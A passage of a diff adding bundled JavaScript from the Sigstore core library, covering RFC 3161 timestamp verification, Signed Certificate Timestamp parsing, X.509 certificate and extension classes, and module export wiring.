+	        const signedAttrs = this.signedAttrsObj.toDER();
+	        signedAttrs[0] = 0x31; // Change context-specific tag to SET
+	        // Check that the signature is valid for the signed attributes
+	        const verified = crypto.verify(signedAttrs, key, this.signatureValue, this.signatureAlgorithm);
+	        if (!verified) {
+	            throw new error_1.RFC3161TimestampVerificationError('signature verification failed');
+	        }
+	    }
+	    // https://www.rfc-editor.org/rfc/rfc3161#section-2.4.2
+	    get pkiStatusInfoObj() {
+	        // pkiStatusInfo is the first element of the timestamp response sequence
+	        return this.root.subs[0];
+	    }
+	    // https://www.rfc-editor.org/rfc/rfc3161#section-2.4.2
+	    get timeStampTokenObj() {
+	        // timeStampToken is the first element of the timestamp response sequence
+	        return this.root.subs[1];
+	    }
+	    // https://datatracker.ietf.org/doc/html/rfc5652#section-3
+	    get contentTypeObj() {
+	        return this.timeStampTokenObj.subs[0];
+	    }
+	    // https://www.rfc-editor.org/rfc/rfc5652#section-3
+	    get signedDataObj() {
+	        const obj = this.timeStampTokenObj.subs.find((sub) => sub.tag.isContextSpecific(0x00));
+	        return obj.subs[0];
+	    }
+	    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.1
+	    get encapContentInfoObj() {
+	        return this.signedDataObj.subs[2];
+	    }
+	    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.1
+	    get signerInfosObj() {
+	        // SignerInfos is the last element of the signed data sequence
+	        const sd = this.signedDataObj;
+	        return sd.subs[sd.subs.length - 1];
+	    }
+	    // https://www.rfc-editor.org/rfc/rfc5652#section-5.1
+	    get signerInfoObj() {
+	        // Only supporting one signer
+	        return this.signerInfosObj.subs[0];
+	    }
+	    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.2
+	    get eContentTypeObj() {
+	        return this.encapContentInfoObj.subs[0];
+	    }
+	    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.2
+	    get eContentObj() {
+	        return this.encapContentInfoObj.subs[1];
+	    }
+	    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.3
+	    get signedAttrsObj() {
+	        const signedAttrs = this.signerInfoObj.subs.find((sub) => sub.tag.isContextSpecific(0x00));
+	        return signedAttrs;
+	    }
+	    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.3
+	    get messageDigestAttributeObj() {
+	        const messageDigest = this.signedAttrsObj.subs.find((sub) => sub.subs[0].tag.isOID() &&
+	            sub.subs[0].toOID() === OID_PKCS9_MESSAGE_DIGEST_KEY);
+	        return messageDigest;
+	    }
+	    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.3
+	    get signerSidObj() {
+	        return this.signerInfoObj.subs[1];
+	    }
+	    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.3
+	    get signerDigestAlgorithmObj() {
+	        // Signature is the 2nd element of the signerInfoObj object
+	        return this.signerInfoObj.subs[2];
+	    }
+	    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.3
+	    get signatureAlgorithmObj() {
+	        // Signature is the 4th element of the signerInfoObj object
+	        return this.signerInfoObj.subs[4];
+	    }
+	    // https://datatracker.ietf.org/doc/html/rfc5652#section-5.3
+	    get signatureValueObj() {
+	        // Signature is the 6th element of the signerInfoObj object
+	        return this.signerInfoObj.subs[5];
+	    }
+	}
+	timestamp$1.RFC3161Timestamp = RFC3161Timestamp;
+	return timestamp$1;
+}
+
+var hasRequiredRfc3161;
+
+function requireRfc3161 () {
+	if (hasRequiredRfc3161) return rfc3161;
+	hasRequiredRfc3161 = 1;
+	(function (exports) {
+		/*
+		Copyright 2023 The Sigstore Authors.
+
+		Licensed under the Apache License, Version 2.0 (the "License");
+		you may not use this file except in compliance with the License.
+		You may obtain a copy of the License at
+
+		    http://www.apache.org/licenses/LICENSE-2.0
+
+		Unless required by applicable law or agreed to in writing, software
+		distributed under the License is distributed on an "AS IS" BASIS,
+		WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+		See the License for the specific language governing permissions and
+		limitations under the License.
+		*/
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.RFC3161Timestamp = void 0;
+		var timestamp_1 = requireTimestamp$1();
+		Object.defineProperty(exports, "RFC3161Timestamp", { enumerable: true, get: function () { return timestamp_1.RFC3161Timestamp; } }); 
+	} (rfc3161));
+	return rfc3161;
+}
+
+var x509 = {};
+
+var cert = {};
+
+var ext = {};
+
+var sct$1 = {};
+
+var hasRequiredSct$1;
+
+function requireSct$1 () {
+	if (hasRequiredSct$1) return sct$1;
+	hasRequiredSct$1 = 1;
+	var __createBinding = (sct$1 && sct$1.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+	    if (k2 === undefined) k2 = k;
+	    var desc = Object.getOwnPropertyDescriptor(m, k);
+	    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+	      desc = { enumerable: true, get: function() { return m[k]; } };
+	    }
+	    Object.defineProperty(o, k2, desc);
+	}) : (function(o, m, k, k2) {
+	    if (k2 === undefined) k2 = k;
+	    o[k2] = m[k];
+	}));
+	var __setModuleDefault = (sct$1 && sct$1.__setModuleDefault) || (Object.create ? (function(o, v) {
+	    Object.defineProperty(o, "default", { enumerable: true, value: v });
+	}) : function(o, v) {
+	    o["default"] = v;
+	});
+	var __importStar = (sct$1 && sct$1.__importStar) || (function () {
+	    var ownKeys = function(o) {
+	        ownKeys = Object.getOwnPropertyNames || function (o) {
+	            var ar = [];
+	            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+	            return ar;
+	        };
+	        return ownKeys(o);
+	    };
+	    return function (mod) {
+	        if (mod && mod.__esModule) return mod;
+	        var result = {};
+	        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+	        __setModuleDefault(result, mod);
+	        return result;
+	    };
+	})();
+	Object.defineProperty(sct$1, "__esModule", { value: true });
+	sct$1.SignedCertificateTimestamp = void 0;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const crypto = __importStar(requireCrypto());
+	const stream_1 = requireStream();
+	class SignedCertificateTimestamp {
+	    version;
+	    logID;
+	    timestamp;
+	    extensions;
+	    hashAlgorithm;
+	    signatureAlgorithm;
+	    signature;
+	    constructor(options) {
+	        this.version = options.version;
+	        this.logID = options.logID;
+	        this.timestamp = options.timestamp;
+	        this.extensions = options.extensions;
+	        this.hashAlgorithm = options.hashAlgorithm;
+	        this.signatureAlgorithm = options.signatureAlgorithm;
+	        this.signature = options.signature;
+	    }
+	    get datetime() {
+	        return new Date(Number(this.timestamp.readBigInt64BE()));
+	    }
+	    // Returns the hash algorithm used to generate the SCT's signature.
+	    // https://www.rfc-editor.org/rfc/rfc5246#section-7.4.1.4.1
+	    get algorithm() {
+	        switch (this.hashAlgorithm) {
+	            /* istanbul ignore next */
+	            case 0:
+	                return 'none';
+	            /* istanbul ignore next */
+	            case 1:
+	                return 'md5';
+	            /* istanbul ignore next */
+	            case 2:
+	                return 'sha1';
+	            /* istanbul ignore next */
+	            case 3:
+	                return 'sha224';
+	            case 4:
+	                return 'sha256';
+	            /* istanbul ignore next */
+	            case 5:
+	                return 'sha384';
+	            /* istanbul ignore next */
+	            case 6:
+	                return 'sha512';
+	            /* istanbul ignore next */
+	            default:
+	                return 'unknown';
+	        }
+	    }
+	    verify(preCert, key) {
+	        // Assemble the digitally-signed struct (the data over which the signature
+	        // was generated).
+	        // https://www.rfc-editor.org/rfc/rfc6962#section-3.2
+	        const stream = new stream_1.ByteStream();
+	        stream.appendChar(this.version);
+	        stream.appendChar(0x00); // SignatureType = certificate_timestamp(0)
+	        stream.appendView(this.timestamp);
+	        stream.appendUint16(0x01); // LogEntryType = precert_entry(1)
+	        stream.appendView(preCert);
+	        stream.appendUint16(this.extensions.byteLength);
+	        /* istanbul ignore next - extensions are very uncommon */
+	        if (this.extensions.byteLength > 0) {
+	            stream.appendView(this.extensions);
+	        }
+	        return crypto.verify(stream.buffer, key, this.signature, this.algorithm);
+	    }
+	    // Parses a SignedCertificateTimestamp from a buffer. SCTs are encoded using
+	    // TLS encoding which means the fields and lengths of most fields are
+	    // specified as part of the SCT and TLS specs.
+	    // https://www.rfc-editor.org/rfc/rfc6962#section-3.2
+	    // https://www.rfc-editor.org/rfc/rfc5246#section-7.4.1.4.1
+	    static parse(buf) {
+	        const stream = new stream_1.ByteStream(buf);
+	        // Version - enum { v1(0), (255) }
+	        const version = stream.getUint8();
+	        // Log ID  - struct { opaque key_id[32]; }
+	        const logID = stream.getBlock(32);
+	        // Timestamp - uint64
+	        const timestamp = stream.getBlock(8);
+	        // Extensions - opaque extensions<0..2^16-1>;
+	        const extenstionLength = stream.getUint16();
+	        const extensions = stream.getBlock(extenstionLength);
+	        // Hash algo - enum { sha256(4), . . . (255) }
+	        const hashAlgorithm = stream.getUint8();
+	        // Signature algo - enum { anonymous(0), rsa(1), dsa(2), ecdsa(3), (255) }
+	        const signatureAlgorithm = stream.getUint8();
+	        // Signature  - opaque signature<0..2^16-1>;
+	        const sigLength = stream.getUint16();
+	        const signature = stream.getBlock(sigLength);
+	        // Check that we read the entire buffer
+	        if (stream.position !== buf.length) {
+	            throw new Error('SCT buffer length mismatch');
+	        }
+	        return new SignedCertificateTimestamp({
+	            version,
+	            logID,
+	            timestamp,
+	            extensions,
+	            hashAlgorithm,
+	            signatureAlgorithm,
+	            signature,
+	        });
+	    }
+	}
+	sct$1.SignedCertificateTimestamp = SignedCertificateTimestamp;
+	return sct$1;
+}
+
+var hasRequiredExt;
+
+function requireExt () {
+	if (hasRequiredExt) return ext;
+	hasRequiredExt = 1;
+	Object.defineProperty(ext, "__esModule", { value: true });
+	ext.X509SCTExtension = ext.X509SubjectKeyIDExtension = ext.X509AuthorityKeyIDExtension = ext.X509SubjectAlternativeNameExtension = ext.X509KeyUsageExtension = ext.X509BasicConstraintsExtension = ext.X509Extension = void 0;
+	const stream_1 = requireStream();
+	const sct_1 = requireSct$1();
+	// https://www.rfc-editor.org/rfc/rfc5280#section-4.1
+	class X509Extension {
+	    root;
+	    constructor(asn1) {
+	        this.root = asn1;
+	    }
+	    get oid() {
+	        return this.root.subs[0].toOID();
+	    }
+	    get critical() {
+	        // The critical field is optional and will be the second element of the
+	        // extension sequence if present. Default to false if not present.
+	        return this.root.subs.length === 3 ? this.root.subs[1].toBoolean() : false;
+	    }
+	    get value() {
+	        return this.extnValueObj.value;
+	    }
+	    get valueObj() {
+	        return this.extnValueObj;
+	    }
+	    get extnValueObj() {
+	        // The extnValue field will be the last element of the extension sequence
+	        return this.root.subs[this.root.subs.length - 1];
+	    }
+	}
+	ext.X509Extension = X509Extension;
+	// https://www.rfc-editor.org/rfc/rfc5280#section-4.2.1.9
+	class X509BasicConstraintsExtension extends X509Extension {
+	    get isCA() {
+	        return this.sequence.subs[0]?.toBoolean() ?? false;
+	    }
+	    get pathLenConstraint() {
+	        return this.sequence.subs.length > 1
+	            ? this.sequence.subs[1].toInteger()
+	            : undefined;
+	    }
+	    // The extnValue field contains a single sequence wrapping the isCA and
+	    // pathLenConstraint.
+	    get sequence() {
+	        return this.extnValueObj.subs[0];
+	    }
+	}
+	ext.X509BasicConstraintsExtension = X509BasicConstraintsExtension;
+	// https://www.rfc-editor.org/rfc/rfc5280#section-4.2.1.3
+	class X509KeyUsageExtension extends X509Extension {
+	    get digitalSignature() {
+	        return this.bitString[0] === 1;
+	    }
+	    get keyCertSign() {
+	        return this.bitString[5] === 1;
+	    }
+	    get crlSign() {
+	        return this.bitString[6] === 1;
+	    }
+	    // The extnValue field contains a single bit string which is a bit mask
+	    // indicating which key usages are enabled.
+	    get bitString() {
+	        return this.extnValueObj.subs[0].toBitString();
+	    }
+	}
+	ext.X509KeyUsageExtension = X509KeyUsageExtension;
+	// https://www.rfc-editor.org/rfc/rfc5280#section-4.2.1.6
+	class X509SubjectAlternativeNameExtension extends X509Extension {
+	    get rfc822Name() {
+	        return this.findGeneralName(0x01)?.value.toString('ascii');
+	    }
+	    get uri() {
+	        return this.findGeneralName(0x06)?.value.toString('ascii');
+	    }
+	    // Retrieve the value of an otherName with the given OID.
+	    otherName(oid) {
+	        const otherName = this.findGeneralName(0x00);
+	        if (otherName === undefined) {
+	            return undefined;
+	        }
+	        // The otherName is a sequence containing an OID and a value.
+	        // Need to check that the OID matches the one we're looking for.
+	        const otherNameOID = otherName.subs[0].toOID();
+	        if (otherNameOID !== oid) {
+	            return undefined;
+	        }
+	        // The otherNameValue is a sequence containing the actual value.
+	        const otherNameValue = otherName.subs[1];
+	        return otherNameValue.subs[0].value.toString('ascii');
+	    }
+	    findGeneralName(tag) {
+	        return this.generalNames.find((gn) => gn.tag.isContextSpecific(tag));
+	    }
+	    // The extnValue field contains a sequence of GeneralNames.
+	    get generalNames() {
+	        return this.extnValueObj.subs[0].subs;
+	    }
+	}
+	ext.X509SubjectAlternativeNameExtension = X509SubjectAlternativeNameExtension;
+	// https://www.rfc-editor.org/rfc/rfc5280#section-4.2.1.1
+	class X509AuthorityKeyIDExtension extends X509Extension {
+	    get keyIdentifier() {
+	        return this.findSequenceMember(0x00)?.value;
+	    }
+	    findSequenceMember(tag) {
+	        return this.sequence.subs.find((el) => el.tag.isContextSpecific(tag));
+	    }
+	    // The extnValue field contains a single sequence wrapping the keyIdentifier
+	    get sequence() {
+	        return this.extnValueObj.subs[0];
+	    }
+	}
+	ext.X509AuthorityKeyIDExtension = X509AuthorityKeyIDExtension;
+	// https://www.rfc-editor.org/rfc/rfc5280#section-4.2.1.2
+	class X509SubjectKeyIDExtension extends X509Extension {
+	    get keyIdentifier() {
+	        return this.extnValueObj.subs[0].value;
+	    }
+	}
+	ext.X509SubjectKeyIDExtension = X509SubjectKeyIDExtension;
+	// https://www.rfc-editor.org/rfc/rfc6962#section-3.3
+	class X509SCTExtension extends X509Extension {
+	    constructor(asn1) {
+	        super(asn1);
+	    }
+	    get signedCertificateTimestamps() {
+	        const buf = this.extnValueObj.subs[0].value;
+	        const stream = new stream_1.ByteStream(buf);
+	        // The overall list length is encoded in the first two bytes -- note this
+	        // is the length of the list in bytes, NOT the number of SCTs in the list
+	        const end = stream.getUint16() + 2;
+	        const sctList = [];
+	        while (stream.position < end) {
+	            // Read the length of the next SCT
+	            const sctLength = stream.getUint16();
+	            // Slice out the bytes for the next SCT and parse it
+	            const sct = stream.getBlock(sctLength);
+	            sctList.push(sct_1.SignedCertificateTimestamp.parse(sct));
+	        }
+	        if (stream.position !== end) {
+	            throw new Error('SCT list length does not match actual length');
+	        }
+	        return sctList;
+	    }
+	}
+	ext.X509SCTExtension = X509SCTExtension;
+	return ext;
+}
+
+var hasRequiredCert;
+
+function requireCert () {
+	if (hasRequiredCert) return cert;
+	hasRequiredCert = 1;
+	(function (exports) {
+		var __createBinding = (cert && cert.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+		    if (k2 === undefined) k2 = k;
+		    var desc = Object.getOwnPropertyDescriptor(m, k);
+		    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+		      desc = { enumerable: true, get: function() { return m[k]; } };
+		    }
+		    Object.defineProperty(o, k2, desc);
+		}) : (function(o, m, k, k2) {
+		    if (k2 === undefined) k2 = k;
+		    o[k2] = m[k];
+		}));
+		var __setModuleDefault = (cert && cert.__setModuleDefault) || (Object.create ? (function(o, v) {
+		    Object.defineProperty(o, "default", { enumerable: true, value: v });
+		}) : function(o, v) {
+		    o["default"] = v;
+		});
+		var __importStar = (cert && cert.__importStar) || (function () {
+		    var ownKeys = function(o) {
+		        ownKeys = Object.getOwnPropertyNames || function (o) {
+		            var ar = [];
+		            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+		            return ar;
+		        };
+		        return ownKeys(o);
+		    };
+		    return function (mod) {
+		        if (mod && mod.__esModule) return mod;
+		        var result = {};
+		        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+		        __setModuleDefault(result, mod);
+		        return result;
+		    };
+		})();
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.X509Certificate = exports.EXTENSION_OID_SCT = void 0;
+		/*
+		Copyright 2023 The Sigstore Authors.
+
+		Licensed under the Apache License, Version 2.0 (the "License");
+		you may not use this file except in compliance with the License.
+		You may obtain a copy of the License at
+
+		    http://www.apache.org/licenses/LICENSE-2.0
+
+		Unless required by applicable law or agreed to in writing, software
+		distributed under the License is distributed on an "AS IS" BASIS,
+		WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+		See the License for the specific language governing permissions and
+		limitations under the License.
+		*/
+		const asn1_1 = requireAsn1();
+		const crypto = __importStar(requireCrypto());
+		const oid_1 = requireOid();
+		const pem = __importStar(requirePem());
+		const ext_1 = requireExt();
+		const EXTENSION_OID_SUBJECT_KEY_ID = '2.5.29.14';
+		const EXTENSION_OID_KEY_USAGE = '2.5.29.15';
+		const EXTENSION_OID_SUBJECT_ALT_NAME = '2.5.29.17';
+		const EXTENSION_OID_BASIC_CONSTRAINTS = '2.5.29.19';
+		const EXTENSION_OID_AUTHORITY_KEY_ID = '2.5.29.35';
+		exports.EXTENSION_OID_SCT = '1.3.6.1.4.1.11129.2.4.2';
+		class X509Certificate {
+		    root;
+		    constructor(asn1) {
+		        this.root = asn1;
+		    }
+		    static parse(cert) {
+		        const der = typeof cert === 'string' ? pem.toDER(cert) : cert;
+		        const asn1 = asn1_1.ASN1Obj.parseBuffer(der);
+		        return new X509Certificate(asn1);
+		    }
+		    get tbsCertificate() {
+		        return this.tbsCertificateObj;
+		    }
+		    get version() {
+		        // version number is the first element of the version context specific tag
+		        const ver = this.versionObj.subs[0].toInteger();
+		        return `v${(ver + BigInt(1)).toString()}`;
+		    }
+		    get serialNumber() {
+		        return this.serialNumberObj.value;
+		    }
+		    get notBefore() {
+		        // notBefore is the first element of the validity sequence
+		        return this.validityObj.subs[0].toDate();
+		    }
+		    get notAfter() {
+		        // notAfter is the second element of the validity sequence
+		        return this.validityObj.subs[1].toDate();
+		    }
+		    get issuer() {
+		        return this.issuerObj.value;
+		    }
+		    get subject() {
+		        return this.subjectObj.value;
+		    }
+		    get publicKey() {
+		        return this.subjectPublicKeyInfoObj.toDER();
+		    }
+		    get signatureAlgorithm() {
+		        const oid = this.signatureAlgorithmObj.subs[0].toOID();
+		        if (oid_1.RSA_SIGNATURE_ALGOS[oid]) {
+		            return oid_1.RSA_SIGNATURE_ALGOS[oid];
+		        }
+		        return oid_1.ECDSA_SIGNATURE_ALGOS[oid];
+		    }
+		    get signatureValue() {
+		        // Signature value is a bit string, so we need to skip the first byte
+		        return this.signatureValueObj.value.subarray(1);
+		    }
+		    get subjectAltName() {
+		        const ext = this.extSubjectAltName;
+		        return ext?.uri || /* istanbul ignore next */ ext?.rfc822Name;
+		    }
+		    get extensions() {
+		        // The extension list is the first (and only) element of the extensions
+		        // context specific tag
+		        /* istanbul ignore next */
+		        const extSeq = this.extensionsObj?.subs[0];
+		        /* istanbul ignore next */
+		        return extSeq?.subs || [];
+		    }
+		    get extKeyUsage() {
+		        const ext = this.findExtension(EXTENSION_OID_KEY_USAGE);
+		        return ext ? new ext_1.X509KeyUsageExtension(ext) : undefined;
+		    }
+		    get extBasicConstraints() {
+		        const ext = this.findExtension(EXTENSION_OID_BASIC_CONSTRAINTS);
+		        return ext ? new ext_1.X509BasicConstraintsExtension(ext) : undefined;
+		    }
+		    get extSubjectAltName() {
+		        const ext = this.findExtension(EXTENSION_OID_SUBJECT_ALT_NAME);
+		        return ext ? new ext_1.X509SubjectAlternativeNameExtension(ext) : undefined;
+		    }
+		    get extAuthorityKeyID() {
+		        const ext = this.findExtension(EXTENSION_OID_AUTHORITY_KEY_ID);
+		        return ext ? new ext_1.X509AuthorityKeyIDExtension(ext) : undefined;
+		    }
+		    get extSubjectKeyID() {
+		        const ext = this.findExtension(EXTENSION_OID_SUBJECT_KEY_ID);
+		        return ext
+		            ? new ext_1.X509SubjectKeyIDExtension(ext)
+		            : /* istanbul ignore next */ undefined;
+		    }
+		    get extSCT() {
+		        const ext = this.findExtension(exports.EXTENSION_OID_SCT);
+		        return ext ? new ext_1.X509SCTExtension(ext) : undefined;
+		    }
+		    get isCA() {
+		        const ca = this.extBasicConstraints?.isCA || false;
+		        // If the KeyUsage extension is present, keyCertSign must be set
+		        /* istanbul ignore else */
+		        if (this.extKeyUsage) {
+		            return ca && this.extKeyUsage.keyCertSign;
+		        }
+		        // TODO: test coverage for this case
+		        /* istanbul ignore next */
+		        return ca;
+		    }
+		    extension(oid) {
+		        const ext = this.findExtension(oid);
+		        return ext ? new ext_1.X509Extension(ext) : undefined;
+		    }
+		    verify(issuerCertificate) {
+		        // Use the issuer's public key if provided, otherwise use the subject's
+		        const publicKey = issuerCertificate?.publicKey || this.publicKey;
+		        const key = crypto.createPublicKey(publicKey);
+		        return crypto.verify(this.tbsCertificate.toDER(), key, this.signatureValue, this.signatureAlgorithm);
+		    }
+		    validForDate(date) {
+		        return this.notBefore <= date && date <= this.notAfter;
+		    }
+		    equals(other) {
+		        return this.root.toDER().equals(other.root.toDER());
+		    }
+		    // Creates a copy of the certificate with a new buffer
+		    clone() {
+		        const der = this.root.toDER();
+		        const clone = Buffer.alloc(der.length);
+		        der.copy(clone);
+		        return X509Certificate.parse(clone);
+		    }
+		    findExtension(oid) {
+		        // Find the extension with the given OID. The OID will always be the first
+		        // element of the extension sequence
+		        return this.extensions.find((ext) => ext.subs[0].toOID() === oid);
+		    }
+		    /////////////////////////////////////////////////////////////////////////////
+		    // The following properties use the documented x509 structure to locate the
+		    // desired ASN.1 object
+		    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1
+		    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.1.1
+		    get tbsCertificateObj() {
+		        // tbsCertificate is the first element of the certificate sequence
+		        return this.root.subs[0];
+		    }
+		    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.1.2
+		    get signatureAlgorithmObj() {
+		        // signatureAlgorithm is the second element of the certificate sequence
+		        return this.root.subs[1];
+		    }
+		    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.1.3
+		    get signatureValueObj() {
+		        // signatureValue is the third element of the certificate sequence
+		        return this.root.subs[2];
+		    }
+		    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.1
+		    get versionObj() {
+		        // version is the first element of the tbsCertificate sequence
+		        return this.tbsCertificateObj.subs[0];
+		    }
+		    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.2
+		    get serialNumberObj() {
+		        // serialNumber is the second element of the tbsCertificate sequence
+		        return this.tbsCertificateObj.subs[1];
+		    }
+		    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.4
+		    get issuerObj() {
+		        // issuer is the fourth element of the tbsCertificate sequence
+		        return this.tbsCertificateObj.subs[3];
+		    }
+		    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.5
+		    get validityObj() {
+		        // version is the fifth element of the tbsCertificate sequence
+		        return this.tbsCertificateObj.subs[4];
+		    }
+		    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.6
+		    get subjectObj() {
+		        // subject is the sixth element of the tbsCertificate sequence
+		        return this.tbsCertificateObj.subs[5];
+		    }
+		    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.7
+		    get subjectPublicKeyInfoObj() {
+		        // subjectPublicKeyInfo is the seventh element of the tbsCertificate sequence
+		        return this.tbsCertificateObj.subs[6];
+		    }
+		    // Extensions can't be located by index because their position varies. Instead,
+		    // we need to find the extensions context specific tag
+		    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.9
+		    get extensionsObj() {
+		        return this.tbsCertificateObj.subs.find((sub) => sub.tag.isContextSpecific(0x03));
+		    }
+		}
+		exports.X509Certificate = X509Certificate; 
+	} (cert));
+	return cert;
+}
+
+var hasRequiredX509;
+
+function requireX509 () {
+	if (hasRequiredX509) return x509;
+	hasRequiredX509 = 1;
+	(function (exports) {
+		/*
+		Copyright 2023 The Sigstore Authors.
+
+		Licensed under the Apache License, Version 2.0 (the "License");
+		you may not use this file except in compliance with the License.
+		You may obtain a copy of the License at
+
+		    http://www.apache.org/licenses/LICENSE-2.0
+
+		Unless required by applicable law or agreed to in writing, software
+		distributed under the License is distributed on an "AS IS" BASIS,
+		WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+		See the License for the specific language governing permissions and
+		limitations under the License.
+		*/
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.X509SCTExtension = exports.X509Certificate = exports.EXTENSION_OID_SCT = void 0;
+		var cert_1 = requireCert();
+		Object.defineProperty(exports, "EXTENSION_OID_SCT", { enumerable: true, get: function () { return cert_1.EXTENSION_OID_SCT; } });
+		Object.defineProperty(exports, "X509Certificate", { enumerable: true, get: function () { return cert_1.X509Certificate; } });
+		var ext_1 = requireExt();
+		Object.defineProperty(exports, "X509SCTExtension", { enumerable: true, get: function () { return ext_1.X509SCTExtension; } }); 
+	} (x509));
+	return x509;
+}
+
+var hasRequiredDist$1;
+
+function requireDist$1 () {
+	if (hasRequiredDist$1) return dist;
+	hasRequiredDist$1 = 1;
+	(function (exports) {
+		var __createBinding = (dist && dist.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+		    if (k2 === undefined) k2 = k;
+		    var desc = Object.getOwnPropertyDescriptor(m, k);
+		    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+		      desc = { enumerable: true, get: function() { return m[k]; } };
+		    }
+		    Object.defineProperty(o, k2, desc);
+		}) : (function(o, m, k, k2) {
+		    if (k2 === undefined) k2 = k;
+		    o[k2] = m[k];
+		}));
+		var __setModuleDefault = (dist && dist.__setModuleDefault) || (Object.create ? (function(o, v) {
+		    Object.defineProperty(o, "default", { enumerable: true, value: v });
+		}) : function(o, v) {
+		    o["default"] = v;
+		});
+		var __importStar = (dist && dist.__importStar) || (function () {
+		    var ownKeys = function(o) {
+		        ownKeys = Object.getOwnPropertyNames || function (o) {
+		            var ar = [];
+		            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+		            return ar;
+		        };
+		        return ownKeys(o);
+		    };
+		    return function (mod) {
+		        if (mod && mod.__esModule) return mod;
+		        var result = {};
+		        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+		        __setModuleDefault(result, mod);
+		        return result;
+		    };
+		})();
+		Object.defineProperty(exports, "__esModule", { value: true });
+		exports.X509SCTExtension = exports.X509Certificate = exports.EXTENSION_OID_SCT = exports.ByteStream = exports.RFC3161Timestamp = exports.pem = exports.json = exports.encoding = exports.dsse = exports.crypto = exports.ASN1Obj = void 0;
+		/*
+		Copyright 2023 The Sigstore Authors.
+
+		Licensed under the Apache License, Version 2.0 (the "License");
+		you may not use this file except in compliance with the License.
+		You may obtain a copy of the License at
+
+		    http://www.apache.org/licenses/LICENSE-2.0
+
+		Unless required by applicable law or agreed to in writing, software
+		distributed under the License is distributed on an "AS IS" BASIS,
+		WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+		See the License for the specific language governing permissions and
+		limitations under the License.
+		*/
+		var asn1_1 = requireAsn1();
+		Object.defineProperty(exports, "ASN1Obj", { enumerable: true, get: function () { return asn1_1.ASN1Obj; } });
+		exports.crypto = __importStar(requireCrypto());
+		exports.dsse = __importStar(requireDsse$3());
+		exports.encoding = __importStar(requireEncoding());
+		exports.json = __importStar(requireJson());
+		exports.pem = __importStar(requirePem());
+		var rfc3161_1 = requireRfc3161();
+		Object.defineProperty(exports, "RFC3161Timestamp", { enumerable: true, get: function () { return rfc3161_1.RFC3161Timestamp; } });
+		var stream_1 = requireStream();
+		Object.defineProperty(exports, "ByteStream", { enumerable: true, get: function () { return stream_1.ByteStream; } });
+		var x509_1 = requireX509();
+		Object.defineProperty(exports, "EXTENSION_OID_SCT", { enumerable: true, get: function () { return x509_1.EXTENSION_OID_SCT; } });
+		Object.defineProperty(exports, "X509Certificate", { enumerable: true, get: function () { return x509_1.X509Certificate; } });
+		Object.defineProperty(exports, "X509SCTExtension", { enumerable: true, get: function () { return x509_1.X509SCTExtension; } }); 
+	} (dist));
+	return dist;
+}
+
+var dsse$2 = {};
+
+var hasRequiredDsse$2;
+
+function requireDsse$2 () {
+	if (hasRequiredDsse$2) return dsse$2;
+	hasRequiredDsse$2 = 1;
+	Object.defineProperty(dsse$2, "__esModule", { value: true });
+	dsse$2.DSSESignatureContent = void 0;
+	/*
+	Copyright 2023 The Sigstore Authors.
+
+	Licensed under the Apache License, Version 2.0 (the "License");
+	you may not use this file except in compliance with the License.
+	You may obtain a copy of the License at
+
+	    http://www.apache.org/licenses/LICENSE-2.0
+
+	Unless required by applicable law or agreed to in writing, software
+	distributed under the License is distributed on an "AS IS" BASIS,
+	WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+	See the License for the specific language governing permissions and
+	limitations under the License.
+	*/
+	const core_1 = requireDist$1();
+	class DSSESignatureContent {
+	    env;
+	    constructor(env) {
+	        this.env = env;
+	    }
+	    compareDigest(digest) {
+	        return core_1.crypto.bufferEqual(digest, core_1.crypto.digest('sha256', this.env.payload));
+	    }
